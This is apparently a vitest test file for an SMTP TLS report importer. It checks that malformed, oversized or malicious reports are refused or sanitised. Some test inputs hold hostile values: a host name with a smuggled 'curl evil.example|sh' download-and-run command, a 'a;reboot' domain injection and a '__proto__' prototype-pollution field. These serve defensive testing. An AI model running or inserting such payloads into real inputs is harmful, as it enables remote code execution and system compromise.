import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { sources } from '../../../../adapters/sources/index.ts';
import { recognisedBy } from '../../../../src/ingest/choose-source.ts';
import { memoryStore } from '../../../contracts/memory-store/store.ts';
import { FIRST_DAY, type GivenReport, sent } from './given-reports.ts';
import { type GivenFile, heldSessions, importReports } from './import-reports.ts';

const given: GivenReport = {
  ...{ organisation: 'Litware Inc.', id: '1', day: FIRST_DAY },
  policies: [
    {
      domain: 'contoso.com',
      type: 'sts',
      successful: 7,
      failed: 2,
      details: [{ type: 'certificate-expired', mx: 'mx1.contoso.com', sessions: 2 }],
    },
  ],
  shape: {
    ...{ contact: 'address', mxHost: 'list', withPolicyString: true },
    ...{ endsNextDay: false, countsAsText: false, extraField: false },
  },
};
const text = sent(given, 'json').bytes.toString();
const changed = (from: string | RegExp, to: string): GivenFile => ({
  name: 'report.json',
  bytes: Buffer.from(text.replace(from, to)),
});

const imported = async (file: GivenFile) => {
  const store = memoryStore({ priority: [] });
  const [report] = await importReports(store, [file]);
  return { report, lines: await heldSessions(store, FIRST_DAY - 40, FIRST_DAY + 40) };
};

describe('a report is refused with its reason', () => {
  test.for([
    ['that ends before it begins', changed('2026-11-20T00:00:00Z', '2026-11-21T00:00:00Z'), /ends before it begins/],
    ['of more than a month', changed('2026-11-20T00:00:00Z', '2026-09-20T00:00:00Z'), /more than a month/],
    ['of the future', changed(/2026-11-20/g, '2026-12-20'), /in the future/],
    ['without dates', changed('"2026-11-20T00:00:00Z"', '"yesterday"'), /no two dates/],
    ['of negative sessions', changed(':7', ':-7'), /is not a count of sessions/],
    ['of more sessions than there can be', changed(':7', ':7e12'), /is not a count of sessions/],
    ['on no domain', changed('"policy-domain":"contoso.com"', '"policy-domain":"a;reboot"'), /names no domain/],
    [
      'that unpacks to more than 10 MiB',
      {
        name: 'report.json',
        bytes: Buffer.from(text.replace('"policies":[', `"policies":[${' '.repeat(11_000_000)}`)),
      },
      /larger than 10 MiB/,
    ],
    [
      'in a mail of more than 4 MiB',
      { name: 'report.eml', bytes: Buffer.concat([sent(given, 'mail').bytes, Buffer.alloc(5_000_000, 32)]) },
      /larger than 4 MiB/,
    ],
    [
      'in a mail without it',
      {
        name: 'report.eml',
        bytes: Buffer.from(
          'From: a@b.example\r\nContent-Type: multipart/report; report-type=tlsrpt\r\n\r\nnothing\r\n',
        ),
      },
      /no TLS report attached/,
    ],
  ] as const)('%s', async ([, file, reason]) => {
    const { report, lines } = await imported(file);
    expect(report?.error).toMatch(reason);
    expect(lines).toEqual([]);
  });
});

test('one policy that makes no sense is rejected alone', async () => {
  const policies = [...given.policies, { domain: 'fabrikam.com', type: 'sts', successful: -1, failed: 0, details: [] }];
  const { report, lines } = await imported(sent({ ...given, policies }, 'gzip'));
  expect(report).toMatchObject({
    error: null,
    rejected: 1,
    rejections: [{ reason: expect.stringContaining('policy 2 of the report') }],
  });
  expect(lines).toContain('20777 Litware Inc. contoso.com sts successful: 7');
});

test.for([
  [
    'policies of one name',
    [{ successful: 1e9 }, { successful: 1e9 }, { successful: 7, domain: 'fabrikam.com' }],
    1e9 + 7,
  ],
  ['details of one policy', [{ details: [1e9, 1e9, 1e9] }, { successful: 7, domain: 'fabrikam.com' }], 7],
  // The row of the details, and the surplus of them.
  ['details of policies of one name', [{ details: [1e9] }, { details: [1e9] }], 2e9],
] as const)('%s that come to more than there can be are rejected, and nothing else is', async ([, policies, held]) => {
  const store = memoryStore({ priority: [] });
  const manyPolicies = policies.map(
    (each: Partial<{ successful: number; domain: string; details: readonly number[] }>) => ({
      ...{ domain: each.domain ?? 'contoso.com', type: 'sts', successful: each.successful ?? 0, failed: 0 },
      details: (each.details ?? []).map((sessions) => ({ type: 'certificate-expired', mx: '', sessions })),
    }),
  );
  const [report] = await importReports(store, [sent({ ...given, policies: manyPolicies }, 'json')]);
  expect(report).toMatchObject({
    error: null,
    rejected: 1,
    rejections: [{ reason: expect.stringContaining('1,000,000,000') }],
  });
  const [partition] = await store.partitions();
  expect(partition?.messages).toBe(held);
});

test('fields that RFC 8460 does not define are not read, and said', async () => {
  const { report } = await imported(
    changed('"report-id"', '"__proto__":{"polluted":1},"x-secret":"hidden","report-id"'),
  );
  expect(report?.notes.join()).toMatch(/2 fields that RFC 8460 does not define were not read: __proto__, x-secret/);
  expect(JSON.stringify(report)).not.toContain('hidden');
  expect({}).not.toHaveProperty('polluted');
});

test('a name that is no host name is not kept as one', async () => {
  const { lines } = await imported(changed('mx1.contoso.com', 'mx1;curl evil.example|sh'));
  expect(lines).toContain('20777 Litware Inc. contoso.com sts reason certificate-expired: 2');
});

test('more reasons than are kept lose their mail servers, and no session', async () => {
  const details = Array.from({ length: 40 }, (_, at) => ({
    type: at % 2 === 0 ? 'tlsa-invalid' : 'dane-required',
    mx: `mx${at}.contoso.com`,
    sessions: 1,
  }));
  const { lines } = await imported(
    sent({ ...given, policies: [{ domain: 'contoso.com', type: 'tlsa', successful: 0, failed: 40, details }] }, 'json'),
  );
  expect(lines).toEqual([
    '20777 Litware Inc. contoso.com tlsa failed: 40',
    '20777 Litware Inc. contoso.com tlsa reason dane-required: 20',
    '20777 Litware Inc. contoso.com tlsa reason tlsa-invalid: 20',
  ]);
});

test.for([
  ['2026-11-20T00:00:00Z', '2026-11-20T23:59:59Z', 20_777],
  ['2026-11-20T00:00:00Z', '2026-11-21T00:00:00Z', 20_777],
  ['2026-11-20T00:00:00', '2026-11-20T23:59:59', 20_777],
  ['2026-11-19T23:00:00+00:00', '2026-11-20T22:59:59+00:00', 20_777],
  ['2026-11-20T00:00:00+0100', '2026-11-20T23:59:59+01:00', 20_777],
] as const)('a report from %s to %s is counted on the day that it covers most of', async ([from, to, day]) => {
  const { lines } = await imported({
    name: 'report.json',
    bytes: Buffer.from(text.replace('2026-11-20T00:00:00Z', from).replace('2026-11-20T23:59:59Z', to)),
  });
  expect(lines).toContain(`${day} Litware Inc. contoso.com sts successful: 7`);
});

test('other JSON and other mails are none of its files', () => {
  for (const other of [
    '{"policies":[]}',
    '{"report-id":"1"}',
    '[{"policies":[],"report-id":1}]',
    'From: a@b.example\r\nSubject: Report Domain: x\r\n\r\nHello',
  ])
    expect(recognisedBy(sources, Buffer.from(other), 'report.json')).toBeUndefined();
  expect(recognisedBy(sources, gzipSync(text).subarray(0, 10), 'report.json.gz')).toBeUndefined();
});

test('a corrected report with far fewer sessions is no drop of messages', async () => {
  const store = memoryStore({ priority: [] });
  const many = {
    ...given,
    policies: [{ domain: 'contoso.com', type: 'sts', successful: 7000, failed: 0, details: [] }],
  };
  const reports = await importReports(store, [sent(many, 'json'), sent(given, 'gzip')]);
  expect(reports.map(({ error, notes }) => [error, notes])).toEqual([
    [null, []],
    [null, []],
  ]);
  expect(await heldSessions(store, FIRST_DAY, FIRST_DAY)).toContain('20777 Litware Inc. contoso.com sts successful: 7');
});
